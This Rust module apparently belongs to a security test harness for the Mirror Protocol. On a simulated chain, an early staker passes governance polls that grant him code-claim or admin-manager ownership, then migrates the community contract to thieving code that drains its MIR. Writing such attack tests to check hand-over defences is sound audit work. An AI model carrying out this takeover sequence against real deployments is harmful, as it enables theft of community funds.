//! Polls that give away the right to change all code, before anybody else may vote.

use anyhow::Context;
use cosmwasm_std::{to_json_binary, Uint128, WasmMsg};
use mirror_deploy::{hand_over, HandOverError, Progress};
use mirror_protocol::admin_manager;
use mirror_protocol::gov::PollAdminAction;
use mirror_testing::{standard_profile, TestChain, World};

use crate::attacks::attack::Attack;
use crate::attacks::fixtures::{self, DAY, MILLION, UNIT};
use crate::attacks::polls::{self, Proposal};
use crate::attacks::report::{Attempt, Findings};
use crate::attacks::thieving_code;
use crate::attacks::transaction::Transaction;
use crate::attacks::trial::Trial;

pub(super) const CLAIM: Attack = Attack {
    name: "hand-over: a claim from before",
    story: "Stake that comes after a poll does not vote in it: whoever staked first, 0.01 MIR, \
            had a lent deposit's poll authorise him to claim all code, and the operator was told \
            to carry it out before the hand-over: 36.6 million MIR.",
    run: claim,
};

pub(super) const OWNER: Attack = Attack {
    name: "hand-over: an owner from before",
    story: "The same with another owner for the admin manager, which the hand-over noticed only \
            after all rights had moved to it.",
    run: owner,
};

/// What each of the others stakes after the poll was created.
const LATER: u128 = 3 * MILLION / 2;

/// Which right the poll gives to the attacker.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Key {
    /// To claim all code.
    Claim,
    /// To own the admin manager.
    Owner,
}

/// Whether the poll is carried out before or after the hand-over.
#[derive(Clone, Copy, PartialEq, Eq)]
enum When {
    /// Before it.
    BeforeHandOver,
    /// After it.
    AfterHandOver,
}

fn claim() -> anyhow::Result<Findings> {
    let how = "had a poll authorise the attacker to claim all code";
    findings(Key::Claim, how)
}

fn owner() -> anyhow::Result<Findings> {
    findings(
        Key::Owner,
        "had a poll make the attacker owner of the admin manager",
    )
}

/// All ways of trying to get this right.
fn findings(key: Key, how: &str) -> anyhow::Result<Findings> {
    let ways = [
        (
            UNIT,
            When::BeforeHandOver,
            "a MIR staked first",
            "before the hand-over",
        ),
        (
            UNIT,
            When::AfterHandOver,
            "a MIR staked first",
            "after the hand-over",
        ),
        (
            MILLION,
            When::BeforeHandOver,
            "a million",
            "before the hand-over",
        ),
        (
            MILLION,
            When::AfterHandOver,
            "a million",
            "after the hand-over",
        ),
    ];
    let attempts = ways.map(|(stake, when, with, moment)| {
        let tried = format!("with {with} {how}, carried out {moment}");
        captured(key, stake, when, tried)
    });
    Ok(Findings {
        attempts: attempts.into_iter().collect::<anyhow::Result<_>>()?,
        exposures: vec![],
    })
}

fn captured(key: Key, stake: u128, when: When, tried: String) -> anyhow::Result<Attempt> {
    let mut trial = prepared(stake)?;
    let proposal = Proposal::admin(match key {
        Key::Claim => PollAdminAction::AuthorizeClaim {
            authorized_addr: trial.attacker.to_string(),
        },
        Key::Owner => PollAdminAction::UpdateOwner {
            owner: trial.attacker.to_string(),
        },
    });
    let poll_id = polls::proposes(&mut trial, "T-91", &proposal)?;
    let poll_id = poll_id.context("anybody may bring a poll")?;
    polls::votes(&mut trial, poll_id)?;
    trial.world.chain.pass(DAY);
    for name in ["alice", "bob", "carol"] {
        trial.world.actor(name).stakes_mir(LATER);
    }
    if when == When::AfterHandOver {
        trial.world.chain.pass(1);
        hands_over(&mut trial);
    }
    polls::concludes(&mut trial, "T-91", poll_id, &proposal)?;
    if when == When::BeforeHandOver {
        hands_over(&mut trial);
    }
    takes_code(&mut trial, key)?;
    polls::leaves(&mut trial)?;
    trial.ends(tried)
}

/// Only the attacker has staked.
fn prepared(stake: u128) -> anyhow::Result<Trial> {
    let mut world = World::bootstrapped(&standard_profile(&TestChain::new()));
    world.drops_mir();
    polls::attacker_stakes(&mut world, stake)?;
    let mut trial = Trial::new(world, &[("MIR", fixtures::price("0.5")?)])?;
    let community = trial.world.at.community.clone();
    trial.measures_account(community)?;
    Ok(trial)
}

/// The operator tries to hand over; a refusal is noted.
fn hands_over(trial: &mut Trial) {
    let deployment = trial.world.deployment.clone();
    let least = stake_to_take_over();
    let outcome = hand_over(
        &mut trial.world.deployer(),
        &deployment,
        least,
        &mut Progress::default(),
    );
    match outcome {
        Ok(()) => trial.notes("T-91", "gov has taken over"),
        Err(HandOverError::Chain(refusal)) => trial.refused_to_others("T-91", &refusal),
        Err(error) => trial.notes("T-91", error.to_string()),
    }
}

fn stake_to_take_over() -> Uint128 {
    standard_profile(&TestChain::new()).gov.stake_to_take_over
}

/// The attacker gives the community other code, which sends its MIR to the attacker.
fn takes_code(trial: &mut Trial, key: Key) -> anyhow::Result<()> {
    let at = trial.world.at.clone();
    let new_code_id = trial.world.chain.app.store_code(thieving_code::code());
    let msg = to_json_binary(&thieving_code::MigrateMsg {
        thief: Some(trial.attacker.clone()),
        token: Some(at.mirror_token.clone()),
    })?;
    if key == Key::Owner {
        let migrate = admin_manager::ExecuteMsg::ExecuteMigrations {
            migrations: vec![(at.community.to_string(), new_code_id, msg)],
        };
        trial.tries(
            "T-91",
            Transaction::new().calls(&at.admin_manager, &migrate),
        )?;
        return Ok(());
    }
    let claim = admin_manager::ExecuteMsg::ClaimAdmin {
        contract: at.community.to_string(),
    };
    let migrate = WasmMsg::Migrate {
        contract_addr: at.community.into_string(),
        new_code_id,
        msg,
    };
    let mut transaction = Transaction::new().calls(&at.admin_manager, &claim);
    transaction.messages.push(Ok(migrate.into()));
    trial.tries("T-91", transaction)?;
    Ok(())
}
